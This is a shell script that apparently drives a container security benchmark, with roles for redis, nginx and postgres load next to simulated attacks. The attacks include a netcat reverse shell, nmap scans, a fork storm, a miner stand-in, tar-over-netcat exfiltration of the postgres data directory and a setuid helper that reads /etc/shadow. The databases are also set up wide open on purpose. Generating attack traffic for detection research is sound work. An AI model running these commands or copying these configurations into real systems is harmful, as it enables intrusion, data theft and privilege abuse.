#!/bin/sh
# Roles of the real-workload benchmark, run inside the fedmesh-wl-* images
# (busybox sh). Every loop ends by WL_END (Unix seconds, set on each
# container by run.sh) and every attack after its DURATION seconds.
#
# Benign services and clients (load varies in phases, the phase lists repeat):
#   redis | cache-client HOST        redis-server | redis-benchmark bursts
#   nginx | web-load URL             nginx | wrk with a per-connection delay
#   postgres | db-client HOST        postgres | pgbench at a set rate (-R)
#   sidecar URL                      sleeps, a health probe every 30 s
#   idle                             sleeps (attack containers before their attack)
# Attack infrastructure:
#   pool PORT                        stratum-like JSON-RPC listener (socat)
#   listener PORT                    reverse-shell operator (socat EXEC operator)
#   sink PORT                        bulk upload sink (socat to /dev/null)
# Attacks (started with `docker exec` at the scheduled time):
#   miner HOST PORT DURATION         CPU miner stand-in (stress-ng named xmrig)
#                                    + a pool session every ~32 s
#   scan DURATION HOST...            nmap SYN scans of ports 1-10000, repeated
#   revshell HOST PORT DURATION      busybox nc -e /bin/sh to the listener
#   storm DURATION                   stress-ng fork storm + 200 sleeping children
#   exfil HOST PORT DURATION         tar of the postgres data dir piped to the sink
#   privesc DURATION                 setuid-root helper: id, read /etc/shadow,
#                                    write under /etc, every 5 s
set -u
role="${1:-idle}"
[ $# -gt 0 ] && shift

now() { date +%s; }
END="${WL_END:-$(( $(now) + 3600 ))}"
left() { l=$(( END - $(now) )); [ "$l" -gt 0 ] && echo "$l" || echo 1; }
alive() { [ "$(now)" -lt "$END" ]; }
log() { echo "$(now) $role: $*"; }
# until_ts TS: seconds from now to TS (at least 1).
until_ts() { l=$(( $1 - $(now) )); [ "$l" -gt 0 ] && echo "$l" || echo 1; }

# cycle "LEVEL:SECONDS ..." FN: FN LEVEL SECONDS for each phase, the list
# repeated, every phase cut at END.
cycle() {
  list="$1"; fn="$2"
  while alive; do
    for p in $list; do
      alive || return 0
      lvl="${p%%:*}"; secs="${p##*:}"
      l=$(( END - $(now) ))
      [ "$secs" -gt "$l" ] && secs="$l"
      [ "$secs" -gt 0 ] || return 0
      log "phase $lvl ${secs}s"
      "$fn" "$lvl" "$secs"
    done
  done
}

cache_level() {
  lvl="$1"; stop=$(( $(now) + $2 ))
  case "$lvl" in
    idle) sleep "$2"; return 0 ;;
    low) n=500; c=2; d=64; p=1; keys=10000; pause=4 ;;
    mid) n=5000; c=4; d=256; p=1; keys=10000; pause=2 ;;
    high) n=20000; c=8; d=512; p=8; keys=10000; pause=1 ;;
    grow) n=20000; c=4; d=2048; p=4; keys=500000; pause=2 ;;  # new keys: memory grows to maxmemory
    *) log "unknown level $lvl"; sleep "$2"; return 0 ;;
  esac
  while [ "$(now)" -lt "$stop" ]; do
    timeout "$(until_ts "$stop")" redis-benchmark -h "$host" -q -n "$n" -c "$c" -d "$d" -P "$p" \
      -r "$keys" -t set,get,incr,lpush,lpop >/dev/null 2>&1
    sleep "$pause"
  done
}

web_level() {
  case "$1" in
    idle) sleep "$2"; return 0 ;;
    low) c=2; delay=200 ;;    # ~10 req/s
    mid) c=4; delay=40 ;;     # ~100 req/s
    high) c=8; delay=10 ;;    # ~800 req/s (CPU permitting)
    peak) c=16; delay=0 ;;    # as fast as the CPU share allows
    *) log "unknown level $1"; sleep "$2"; return 0 ;;
  esac
  WL_DELAY_MS="$delay" timeout $(( $2 + 5 )) wrk -t1 -c"$c" -d"$2"s --timeout 2s \
    -s /wl/rate.lua "$url" 2>&1 | awk '/Requests\/sec/ {print "'"$(now)"' web-load: " $0}'
}

db_level() {
  case "$1" in
    idle) sleep "$2"; return 0 ;;
    low) args="-c 1 -R 5" ;;
    mid) args="-c 2 -R 40" ;;
    high) args="-c 4 -R 150" ;;
    read) args="-S -c 2 -R 300" ;;
    *) log "unknown level $1"; sleep "$2"; return 0 ;;
  esac
  # shellcheck disable=SC2086
  timeout $(( $2 + 10 )) pgbench -n -h "$host" -U postgres -j 1 $args -T "$2" postgres 2>&1 |
    awk '/^tps/ {print "'"$(now)"' db-client: " $0}'
}

case "$role" in
  idle)
    exec sleep "$(left)"
    ;;
  redis)
    exec timeout "$(left)" redis-server --port 6379 --bind 0.0.0.0 --protected-mode no \
      --save '' --appendonly no --maxmemory 64mb --maxmemory-policy allkeys-lru --dir /data
    ;;
  cache-client)
    host="$1"
    while alive && ! redis-cli -h "$host" ping >/dev/null 2>&1; do sleep 1; done
    cycle "low:50 mid:70 high:40 idle:30 grow:60 mid:50" cache_level
    ;;
  nginx)
    exec timeout "$(left)" nginx -c /etc/nginx/nginx.conf
    ;;
  web-load)
    url="$1"
    while alive && ! wget -q -O /dev/null "${url%/}/healthz" 2>/dev/null; do sleep 1; done
    cycle "low:45 mid:60 high:45 peak:20 idle:30 mid:40 low:60" web_level
    ;;
  postgres)
    export PGDATA=/tmp/pgdata
    initdb -D "$PGDATA" -U postgres --auth=trust --encoding=UTF8 --locale=C >/tmp/initdb.log 2>&1 ||
      { cat /tmp/initdb.log; exit 1; }
    echo "host all all 0.0.0.0/0 trust" >> "$PGDATA/pg_hba.conf"
    exec timeout "$(left)" postgres -D "$PGDATA" -c listen_addresses='*' -c fsync=off \
      -c synchronous_commit=off -c full_page_writes=off -c shared_buffers=32MB \
      -c unix_socket_directories=/tmp -c jit=off
    ;;
  db-client)
    host="$1"
    while alive && ! pg_isready -q -h "$host" -U postgres; do sleep 1; done
    pgbench -i -q -s 4 -h "$host" -U postgres postgres >/dev/null 2>&1 || log "pgbench -i failed"
    cycle "low:60 mid:60 high:40 idle:40 read:40 mid:60" db_level
    ;;
  sidecar)
    url="$1"
    while alive; do
      sleep 30
      wget -q -T 5 -O /dev/null "$url" 2>/dev/null
    done
    ;;
  pool)
    exec timeout "$(left)" socat TCP-LISTEN:"$1",fork,reuseaddr EXEC:'sh /wl/roles.sh pool-session'
    ;;
  pool-session)
    # One miner connection: answer every JSON-RPC line.
    n=0
    while read -r _; do
      echo '{"id":1,"jsonrpc":"2.0","result":{"status":"OK"}}'
      n=$((n + 1))
    done
    log "session closed after $n requests" >&2
    ;;
  listener)
    exec timeout "$(left)" socat TCP-LISTEN:"$1",fork,reuseaddr EXEC:'sh /wl/roles.sh operator'
    ;;
  operator)
    # One reverse-shell session: type commands, keep what the shell prints.
    # socat ends the session (SIGTERM) when the shell goes away.
    out="/tmp/session.$$"
    i=0
    finish() {
      log "session: $i commands, $(wc -c < "$out") bytes back, first line: $(head -n 1 "$out")" >&2
      rm -f "$out"
      exit 0
    }
    trap '' PIPE
    trap finish TERM
    exec 3<&0  # a background job gets /dev/null as fd 0: read the socket via fd 3
    cat <&3 > "$out" &
    drain=$!
    while [ $i -lt 60 ] && alive && kill -0 "$drain" 2>/dev/null; do
      echo 'id; uname -a; ls -la /; wc -l /etc/passwd; ps; netstat -tn' 2>/dev/null || break
      sleep 3
      i=$((i + 1))
    done
    echo exit 2>/dev/null
    sleep 1
    kill "$drain" 2>/dev/null
    finish
    ;;
  sink)
    exec timeout "$(left)" socat -u TCP-LISTEN:"$1",fork,reuseaddr OPEN:/dev/null
    ;;
  miner)
    pool="$1"; port="$2"; stop=$(( $(now) + $3 ))
    log "start"
    xmrig --cpu 1 --cpu-load 100 --timeout "$3"s --quiet &
    burner=$!
    sessions=0
    replies=0
    while [ "$(now)" -lt "$stop" ]; do
      {
        echo '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge","pass":"x","agent":"XMRig/6.21.0"}}'
        k=0
        while [ $k -lt 6 ] && [ "$(now)" -lt "$stop" ]; do
          sleep 5
          echo '{"id":2,"jsonrpc":"2.0","method":"submit","params":{"id":"1","job_id":"1","nonce":"0000abcd","result":"00"}}'
          k=$((k + 1))
        done
      } | timeout "$(until_ts "$stop")" nc "$pool" "$port" > /tmp/pool.out 2>&1
      sessions=$((sessions + 1))
      replies=$((replies + $(grep -c result /tmp/pool.out)))
      sleep 2
    done
    kill "$burner" 2>/dev/null
    wait
    log "stop: $sessions pool sessions, $replies pool replies"
    ;;
  scan)
    stop=$(( $(now) + $1 )); shift
    log "start $*"
    while [ "$(now)" -lt "$stop" ]; do
      timeout "$(until_ts "$stop")" nmap -sS -Pn -n -T4 --max-retries 1 --host-timeout 60s \
        -p 1-10000 "$@" > /tmp/nmap.out 2>&1
      log "$(grep -c '/tcp .*open' /tmp/nmap.out) open ports; $(grep 'Nmap done' /tmp/nmap.out)"
      sleep 3
    done
    log "stop"
    ;;
  revshell)
    host="$1"; port="$2"; stop=$(( $(now) + $3 ))
    log "start"
    while [ "$(now)" -lt "$stop" ]; do
      timeout "$(until_ts "$stop")" nc "$host" "$port" -e /bin/sh
      sleep 1
    done
    log "stop"
    ;;
  storm)
    log "start"
    stop=$(( $(now) + $1 ))
    stress-ng --fork 4 --timeout "$1"s --quiet &
    i=0
    while [ $i -lt 200 ] && [ "$(now)" -lt "$stop" ]; do
      sleep "$(until_ts "$stop")" &
      i=$((i + 1))
    done
    sleep 2
    log "$i sleepers started, $(ps | wc -l) processes in the container"
    wait
    log "stop"
    ;;
  exfil)
    host="$1"; port="$2"; stop=$(( $(now) + $3 ))
    log "start"
    k=0
    kib=$(du -sk /tmp/pgdata | awk '{print $1}')
    while [ $k -lt 40 ] && [ "$(now)" -lt "$stop" ]; do
      tar cf - /tmp/pgdata 2>/dev/null | timeout "$(until_ts "$stop")" nc "$host" "$port"
      k=$((k + 1))
      sleep 5
    done
    log "stop after $k uploads of the data directory (${kib} KiB each)"
    ;;
  privesc)
    stop=$(( $(now) + $1 ))
    log "start as uid $(id -u)"
    n=0
    while [ "$(now)" -lt "$stop" ]; do
      got="$(/usr/local/bin/wl-suid /bin/sh -c 'id -u; head -n 1 /etc/shadow | cut -d: -f1; date >> /etc/wl-owned' 2>&1 | tr '\n' ' ')"
      [ $n -eq 0 ] && log "as root via the setuid helper: $got"
      n=$((n + 1))
      sleep 5
    done
    log "stop after $n privileged runs"
    ;;
  *)
    echo "unknown role $role" >&2
    exit 2
    ;;
esac
